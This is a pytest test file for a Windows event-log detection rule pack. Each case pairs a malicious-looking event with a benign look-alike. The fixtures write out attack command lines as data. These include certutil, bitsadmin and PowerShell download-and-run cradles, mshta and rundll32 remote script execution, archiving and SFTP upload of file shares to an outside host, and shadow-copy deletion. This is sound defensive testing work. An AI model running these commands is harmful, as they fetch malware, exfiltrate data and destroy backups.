"""Execution, exfiltration and impact rules of the built-in pack (group c) fire on the
event each describes, and stay quiet on a close benign look-alike."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from tests.analyzers.windows_evtx.evtx_helpers import run, write_jsonl
from tests.analyzers.windows_evtx.rule_cases import (
    CMD,
    PS_OP,
    PSH,
    SEC,
    SYS32,
    SYSMON,
    Case,
    check_case,
    each_case,
    matched_titles,
    proc,
    script_block,
)

APP = {"Channel": "Application"}
PCA = {
    "Channel": "Microsoft-Windows-Application-Experience/Program-Compatibility-Assistant",
    "Provider_Name": "Microsoft-Windows-Program-Compatibility-Assistant",
}
SCRIPT_BLOCK = {**PS_OP, "Provider_Name": "Microsoft-Windows-PowerShell", "EventID": 4104}
NET4 = "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\"
USER = "C:\\Users\\user01\\"
TEMP = USER + "AppData\\Local\\Temp\\"
WINWORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
W3WP = "C:\\Windows\\System32\\inetsrv\\w3wp.exe"
SQLSERVR = "C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe"
SEVEN_ZIP = "C:\\Program Files\\7-Zip\\7z.exe"
WINSCP = "C:\\Program Files (x86)\\WinSCP\\"


def with_parent_command(event: dict[str, Any], parent_command: str) -> dict[str, Any]:
    return event | {"ParentCommandLine": parent_command}


CASES: list[Case] = [
    (
        "Windows reported an attempt to exploit a known vulnerability (Audit-CVE)",
        {
            **APP,
            "Provider_Name": "Microsoft-Windows-Audit-CVE",
            "EventID": 1,
            "Level": 3,
            "CVEID": "[CVE-2020-0601] cert validation",
            "AdditionalDetails": "CA: <Example ECC Root CA> "
            "sha1: 3C7A0F4E9B21D58A6F0E2C4B1D3A5E7F9081B2C4 para: 06052B81040022",
        },
        {
            **APP,
            "Provider_Name": "SecurityCenter",
            "EventID": 1,
            "Level": 4,
        },
    ),
    (
        "Windows reported an attempt to exploit a known vulnerability (Audit-CVE)",
        {
            **APP,
            "Provider_Name": "Audit-CVE",
            "EventID": 1,
            "Level": 3,
            "CVEID": "[CVE-2022-21907] http.sys request",
            "AdditionalDetails": "",
        },
        None,
    ),
    (
        "bitsadmin transferring a file from the internet",
        proc(
            "bitsadmin.exe /transfer update /download /priority foreground "
            f"http://203.0.113.14/files/svc.exe {TEMP}svc.exe",
            SYS32 + "bitsadmin.exe",
        ),
        proc(
            "bitsadmin.exe /transfer update /download /priority normal "
            f"\\\\fs01.example.local\\deploy\\agent.msi {TEMP}agent.msi",
            SYS32 + "bitsadmin.exe",
        ),
    ),
    (
        "certutil used to download a file",
        proc(
            "certutil.exe -urlcache -split -f http://198.51.100.23/a/beacon.bin "
            "C:\\Users\\Public\\Libraries\\beacon.exe",
            SYS32 + "certutil.exe",
        ),
        proc("certutil.exe -urlcache * delete", SYS32 + "certutil.exe"),
    ),
    (
        "Control Panel applet (.cpl) run from a user folder",
        {
            **PCA,
            "EventID": 17,
            "ExePath": USER + "Downloads\\Invoice_20240412.cpl",
            "ResolverName": "ControlPanelApplet",
        },
        {
            **PCA,
            "EventID": 17,
            "ExePath": "C:\\Program Files\\Contoso\\Display Settings\\contosodisp.cpl",
            "ResolverName": "ControlPanelApplet",
        },
    ),
    (
        "C# compiler run from a shell on source in a user folder",
        proc(
            f'"{NET4}csc.exe" /target:exe /out:{TEMP}svchelper.exe {TEMP}svchelper.cs',
            NET4 + "csc.exe",
            PSH,
        ),
        # Add-Type in PowerShell compiles through a response file in the user's temp folder.
        proc(
            f'"{NET4}csc.exe" /noconfig /fullpaths @"{TEMP}kx2fqv1d\\kx2fqv1d.cmdline"',
            NET4 + "csc.exe",
            PSH,
        ),
    ),
    (
        "Explorer started with /root pointing at a program",
        proc(
            f'explorer.exe /root,"{TEMP}7zS4A1.tmp\\setup_helper.exe"',
            "C:\\Windows\\explorer.exe",
        ),
        proc(
            f"explorer /root,{USER}Documents\\Invoices",
            "C:\\Windows\\explorer.exe",
        ),
    ),
    (
        "Explorer started with /root pointing at a program",
        proc(
            "explorer.exe /root,C:\\Users\\Public\\Libraries\\update.bat",
            "C:\\Windows\\explorer.exe",
        ),
        proc(
            f'"C:\\Windows\\explorer.exe" /root,{USER}Documents\\Invoices',
            "C:\\Windows\\explorer.exe",
        ),
    ),
    (
        "InstallUtil run on an assembly in a user-writable folder",
        proc(
            f'"{NET4}InstallUtil.exe" /logfile= /LogToConsole=false /U '
            "C:\\ProgramData\\Microsoft\\Crypto\\update.dll",
            NET4 + "InstallUtil.exe",
        ),
        proc(
            f'"{NET4}InstallUtil.exe" "C:\\Program Files\\Contoso\\Agent\\ContosoAgentSvc.exe"',
            NET4 + "InstallUtil.exe",
        ),
    ),
    (
        "mshta running a remote or inline script",
        proc(
            '"C:\\Windows\\System32\\mshta.exe" https://203.0.113.41/docs/invoice.hta',
            SYS32 + "mshta.exe",
            WINWORD,
        ),
        proc(
            '"C:\\Windows\\System32\\mshta.exe" "C:\\Program Files\\Contoso\\Tools\\setup.hta"',
            SYS32 + "mshta.exe",
            "C:\\Windows\\explorer.exe",
        ),
    ),
    (
        "mshta running a remote or inline script",
        proc(
            'mshta.exe vbscript:Execute("CreateObject(""WScript.Shell"").Run ""powershell -nop '
            '-w hidden -f C:\\Users\\Public\\a.ps1"",0:close")',
            SYS32 + "mshta.exe",
        ),
        None,
    ),
    (
        "JavaScript run through mshtml RunHTMLApplication on a command line",
        proc(
            'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();'
            'GetObject("script:https://198.51.100.77/r.sct")',
            SYS32 + "rundll32.exe",
        ),
        proc(
            f'rundll32.exe {SYS32}mshtml.dll,PrintHTML "{USER}Documents\\report.htm"',
            SYS32 + "rundll32.exe",
        ),
    ),
    (
        "Windows Installer transaction started for a package at a URL",
        {
            **APP,
            "Provider_Name": "MsiInstaller",
            "EventID": 1040,
            "Data": ["https://203.0.113.60/pkg/remote-support.msi", "6140"],
        },
        {
            **APP,
            "Provider_Name": "MsiInstaller",
            "EventID": 1040,
            "Data": ["\\\\fs01.example.local\\deploy\\remote-support.msi", "6140"],
        },
    ),
    (
        "Office application started a command shell or script host",
        proc(
            'cmd.exe /c powershell -nop -w hidden -c "iwr https://203.0.113.8/s -OutFile '
            'C:\\Users\\Public\\s.exe; C:\\Users\\Public\\s.exe"',
            CMD,
            WINWORD,
        ),
        # Printing from Word starts the 64-bit print spooler helper.
        proc("C:\\Windows\\splwow64.exe 12288", "C:\\Windows\\splwow64.exe", WINWORD),
    ),
    (
        "PowerShell command line decompressing a Base64 payload",
        proc(
            'powershell.exe -nop -w hidden -c "$s=New-Object IO.MemoryStream(,[Convert]::'
            "FromBase64String('H4sIAAAAAAAEAMtIzcnJBwCGphA2BQAAAA=='));IEX (New-Object "
            "IO.StreamReader(New-Object IO.Compression.GzipStream($s,"
            '[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()"',
            PSH,
        ),
        proc(
            "powershell.exe -c \"[IO.File]::WriteAllBytes('C:\\Temp\\root.cer',"
            "[Convert]::FromBase64String('MIIBszCCAVmgAwIBAgIQE2x'))\"",
            PSH,
        ),
    ),
    (
        "PowerShell downloading and running code",
        proc(
            'powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).'
            "DownloadString('http://198.51.100.12/a.ps1')\"",
            PSH,
        ),
        proc(
            'powershell.exe -c "Invoke-WebRequest -Uri https://203.0.113.90/tools/agent.zip '
            f'-OutFile {TEMP}agent.zip -UseBasicParsing"',
            PSH,
        ),
    ),
    (
        "Script block downloading and running code",
        script_block(
            "$wc = New-Object System.Net.WebClient\n"
            "$wc.Headers.Add('User-Agent', 'Mozilla/5.0')\n"
            "Invoke-Expression $wc.DownloadString('https://203.0.113.33/stage2.ps1')"
        ),
        script_block(
            "$wc = New-Object System.Net.WebClient\n"
            "$wc.DownloadString('https://203.0.113.33/version.txt') | Out-File "
            "C:\\ProgramData\\Contoso\\version.txt"
        ),
    ),
    (
        "Script block downloading and running code",
        script_block(
            "$b = [Convert]::FromBase64String('V3JpdGUtT3V0cHV0ICdoaSc=')\n"
            "IEX ([Text.Encoding]::Unicode.GetString($b))"
        ),
        script_block(
            "$b = [Convert]::FromBase64String('V3JpdGUtT3V0cHV0ICdoaSc=')\n"
            "[IO.File]::WriteAllBytes('C:\\ProgramData\\Contoso\\logo.png', $b)"
        ),
    ),
    (
        "rundll32 used to start a program through a Windows DLL export",
        proc(
            f"rundll32.exe advpack.dll,RegisterOCX {USER}AppData\\Roaming\\Updater\\upd.exe",
            SYS32 + "rundll32.exe",
        ),
        proc(
            f"rundll32.exe shell32.dll,Control_RunDLL {SYS32}desk.cpl,,0",
            SYS32 + "rundll32.exe",
        ),
    ),
    (
        "Windows Script Host told to run a file with a forced script engine",
        proc(
            f'"{SYS32}wscript.exe" /E:vbscript {USER}AppData\\Roaming\\Microsoft\\favicon.ico',
            SYS32 + "wscript.exe",
        ),
        proc(f'"{SYS32}cscript.exe" //NoLogo {SYS32}slmgr.vbs /dlv', SYS32 + "cscript.exe"),
    ),
    (
        "Shell started by the DCOM launch service host",
        with_parent_command(
            proc("cmd.exe /c whoami /all > C:\\Windows\\Temp\\o.txt", CMD, SYS32 + "svchost.exe"),
            "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p",
        ),
        # A scheduled task's action is started by the Schedule service's svchost.
        with_parent_command(
            proc("cmd.exe /c C:\\Scripts\\nightly_cleanup.cmd", CMD, SYS32 + "svchost.exe"),
            "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
        ),
    ),
    (
        "Interactive shell started by a web or service host",
        proc('cmd.exe /c "cd /d C:\\inetpub\\wwwroot & whoami"', CMD, W3WP),
        # ASP.NET compiles pages on first use: w3wp starts the C# compiler.
        proc(
            f'"{NET4}csc.exe" /noconfig /fullpaths @"C:\\Windows\\Microsoft.NET\\Framework64\\'
            'v4.0.30319\\Temporary ASP.NET Files\\root\\0a1b2c3d\\e4f5a6b7\\x1y2z3.cmdline"',
            NET4 + "csc.exe",
            W3WP,
        ),
    ),
    (
        "Command shell started by SQL Server (xp_cmdshell)",
        proc('cmd.exe /c "whoami /priv"', CMD, SQLSERVR),
        proc(
            '"C:\\Program Files\\Microsoft SQL Server\\150\\Shared\\SqlDumper.exe" 4120 0 '
            "0x0120 0 0 C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\LOG",
            "C:\\Program Files\\Microsoft SQL Server\\150\\Shared\\SqlDumper.exe",
            SQLSERVR,
        ),
    ),
    (
        "Archive created with a password (7-Zip / WinRAR)",
        proc(
            f'"{SEVEN_ZIP}" a -t7z -mhe=on -pS3cure!2024 C:\\ProgramData\\pkg\\fin.7z '
            "\\\\fs01.example.local\\Finance\\*",
            SEVEN_ZIP,
        ),
        proc(
            f'"{SEVEN_ZIP}" a -t7z {USER}Documents\\backup.7z {USER}Documents\\Projects\\*',
            SEVEN_ZIP,
        ),
    ),
    (
        "Archive created with a password (7-Zip / WinRAR)",
        proc(
            '"C:\\Program Files\\WinRAR\\Rar.exe" a -hpS3cure!2024 -m5 -v500m '
            "C:\\ProgramData\\pkg\\hr.rar D:\\Shares\\HR",
            "C:\\Program Files\\WinRAR\\Rar.exe",
        ),
        proc(
            '"C:\\Program Files\\WinRAR\\Rar.exe" x C:\\Users\\user01\\Downloads\\drivers.rar '
            "C:\\Users\\user01\\Downloads\\drivers\\",
            "C:\\Program Files\\WinRAR\\Rar.exe",
        ),
    ),
    (
        "MEGA client started (MEGAsync / MEGAcmd)",
        proc(
            f'"{USER}AppData\\Local\\MEGAsync\\MEGAsync.exe"',
            USER + "AppData\\Local\\MEGAsync\\MEGAsync.exe",
            "C:\\Windows\\explorer.exe",
        ),
        proc(
            f'"{USER}AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background',
            USER + "AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe",
            "C:\\Windows\\explorer.exe",
        ),
    ),
    (
        "DNS query for MEGA cloud storage (Sysmon)",
        {
            **SYSMON,
            "EventID": 22,
            "QueryName": "g.api.mega.co.nz",
            "QueryStatus": "0",
            "QueryResults": "::ffff:203.0.113.44;",
            "Image": "C:\\Users\\Public\\Libraries\\rc.exe",
        },
        {
            **SYSMON,
            "EventID": 22,
            "QueryName": "mega.example.local",
            "QueryStatus": "0",
            "QueryResults": "::ffff:10.0.4.20;",
            "Image": "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
        },
    ),
    (
        "DNS query for MEGA cloud storage (Sysmon)",
        {
            **SYSMON,
            "EventID": 22,
            "QueryName": "mega.nz",
            "QueryStatus": "0",
            "QueryResults": "::ffff:203.0.113.45;",
            "Image": "C:\\Users\\Public\\Libraries\\rc.exe",
        },
        {
            **SYSMON,
            "EventID": 22,
            "QueryName": "www.omega.nz",
            "QueryStatus": "0",
            "QueryResults": "::ffff:203.0.113.46;",
            "Image": "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
        },
    ),
    (
        "WinSCP or PuTTY copy tools used from a command line",
        proc(
            f'"{WINSCP}WinSCP.com" /ini=nul /command "open sftp://up:x@203.0.113.70/ '
            '-hostkey=*" "put C:\\ProgramData\\pkg\\fin.7z /incoming/" "exit"',
            WINSCP + "WinSCP.com",
        ),
        proc(
            f'"{WINSCP}WinSCP.exe" sftp://user01@sftp.example.local/',
            WINSCP + "WinSCP.exe",
            "C:\\Windows\\explorer.exe",
        ),
    ),
    (
        "WinSCP or PuTTY copy tools used from a command line",
        proc(
            "C:\\ProgramData\\pscp.exe -batch -pw x C:\\ProgramData\\pkg\\hr.rar "
            "up@203.0.113.70:/incoming/",
            "C:\\ProgramData\\pscp.exe",
        ),
        proc(
            '"C:\\Program Files\\PuTTY\\putty.exe" -ssh admin01@10.0.3.15',
            "C:\\Program Files\\PuTTY\\putty.exe",
            "C:\\Windows\\explorer.exe",
        ),
    ),
    (
        "Shadow copies deleted through Win32_ShadowCopy in PowerShell",
        proc(
            'powershell.exe -ep bypass -c "Get-WmiObject Win32_ShadowCopy | '
            'ForEach-Object { $_.Delete() }"',
            PSH,
        ),
        proc(
            'powershell.exe -c "Get-CimInstance Win32_ShadowCopy | '
            'Select-Object ID, InstallDate, VolumeName"',
            PSH,
        ),
    ),
    (
        "Shadow copies deleted in a PowerShell script block",
        script_block("Get-CimInstance -ClassName Win32_ShadowCopy | Remove-CimInstance"),
        script_block("Get-CimInstance -ClassName Win32_ShadowCopy | Measure-Object"),
    ),
    (
        "Shadow copy storage shrunk with vssadmin",
        proc(
            "vssadmin.exe resize shadowstorage /for=C: /on=C: /maxsize=401MB",
            SYS32 + "vssadmin.exe",
        ),
        proc("vssadmin.exe list shadowstorage", SYS32 + "vssadmin.exe"),
    ),
    (
        "Volume Shadow Copy service stopped or disabled from the command line",
        proc("sc.exe config VSS start= disabled", SYS32 + "sc.exe"),
        proc("sc.exe query VSS", SYS32 + "sc.exe"),
    ),
    (
        "Volume Shadow Copy service stopped or disabled from the command line",
        proc("net stop wbengine /y", SYS32 + "net.exe"),
        proc("net start wbengine", SYS32 + "net.exe"),
    ),
]


@each_case(CASES)
def test_rule_fires_on_its_event_and_not_on_the_look_alike(
    tmp_path: Path, title: str, event: dict[str, Any], benign: dict[str, Any] | None
) -> None:
    check_case(tmp_path, title, event, benign)


def access_list(*codes: int) -> str:
    """AccessList as the Security log writes it: message codes, one per line."""
    return "".join(f"%%{code}\r\n\t\t\t\t" for code in codes)


READ_DATA = access_list(1538, 1541, 4416, 4419, 4423)  # READ_CONTROL, SYNCHRONIZE, ReadData …
WRITE_DATA = access_list(1538, 1541, 4417, 4418, 4420, 4423, 4424)  # WriteData, AppendData …
BULK_READ = "Bulk read from a file share: many different files by one account"


def share_access(
    record: int, when: str, name: str, share: str, ip: str, access: str
) -> dict[str, Any]:
    """A 5145 detailed file share access check on a file server."""
    return {
        **SEC,
        "Computer": "FS01.example.local",
        "EventRecordID": record,
        "TimeCreated": when,
        "EventID": 5145,
        "SubjectUserSid": "S-1-5-21-1111111111-2222222222-3333333333-1107",
        "SubjectUserName": "user01",
        "SubjectDomainName": "EXAMPLE",
        "SubjectLogonId": "0x3e8a41c",
        "ObjectType": "File",
        "IpAddress": ip,
        "IpPort": "51544",
        "ShareName": share,
        "ShareLocalPath": "\\??\\D:\\Shares\\" + share.rsplit("\\", 1)[-1],
        "RelativeTargetName": name,
        "AccessMask": "0x120089" if access == READ_DATA else "0x130197",
        "AccessList": access,
        "AccessReason": "-",
    }


def reads(
    count: int,
    *,
    seconds_apart: int = 20,
    share: str = "\\\\*\\Finance",
    two_addresses: bool = False,
    access: str = READ_DATA,
) -> list[dict[str, Any]]:
    """``count`` accesses by user01 to different files, ``seconds_apart`` from each other."""
    events = []
    for i in range(count):
        offset = i * seconds_apart
        when = f"2024-04-12T{offset // 3600:02d}:{offset // 60 % 60:02d}:{offset % 60:02d}Z"
        ip = "10.0.5.24" if two_addresses and i % 2 else "10.0.5.23"
        name = f"Reports\\2024\\ledger_{i:03d}.xlsx"
        events.append(share_access(i + 1, when, name, share, ip, access))
    return events


def test_bulk_share_read_by_one_account_correlates(tmp_path: Path) -> None:
    hundred = reads(100)  # 100 different files in 33 minutes, one account, one address
    assert BULK_READ in run(write_jsonl(tmp_path / "hit.jsonl", hundred)).titles()


@pytest.mark.parametrize(
    "events",
    [
        pytest.param(reads(99), id="99-files"),
        pytest.param(reads(100, seconds_apart=60), id="100-files-over-99-minutes"),
        pytest.param(reads(100, two_addresses=True), id="100-files-from-two-addresses"),
        pytest.param(reads(100, share="\\\\*\\SYSVOL"), id="100-files-on-sysvol"),
        pytest.param(reads(100, access=WRITE_DATA), id="100-files-written-not-read"),
    ],
)
def test_bulk_share_read_short_of_the_rule_is_quiet(
    tmp_path: Path, events: list[dict[str, Any]]
) -> None:
    assert BULK_READ not in run(write_jsonl(tmp_path / "quiet.jsonl", events)).titles()


def test_share_file_read_is_the_bulk_read_base_rule() -> None:
    base = "File on a network share opened for reading (5145)"
    when = "2024-04-12T00:00:00Z"
    name = "Reports\\2024\\ledger_001.xlsx"
    assert base in matched_titles(
        share_access(1, when, name, "\\\\*\\Finance", "10.0.5.23", READ_DATA)
    )
    assert base not in matched_titles(
        share_access(1, when, name, "\\\\*\\Finance", "10.0.5.23", WRITE_DATA)
    )
    assert base not in matched_titles(
        share_access(1, when, "example.local\\Policies", "\\\\*\\SYSVOL", "10.0.5.23", READ_DATA)
    )
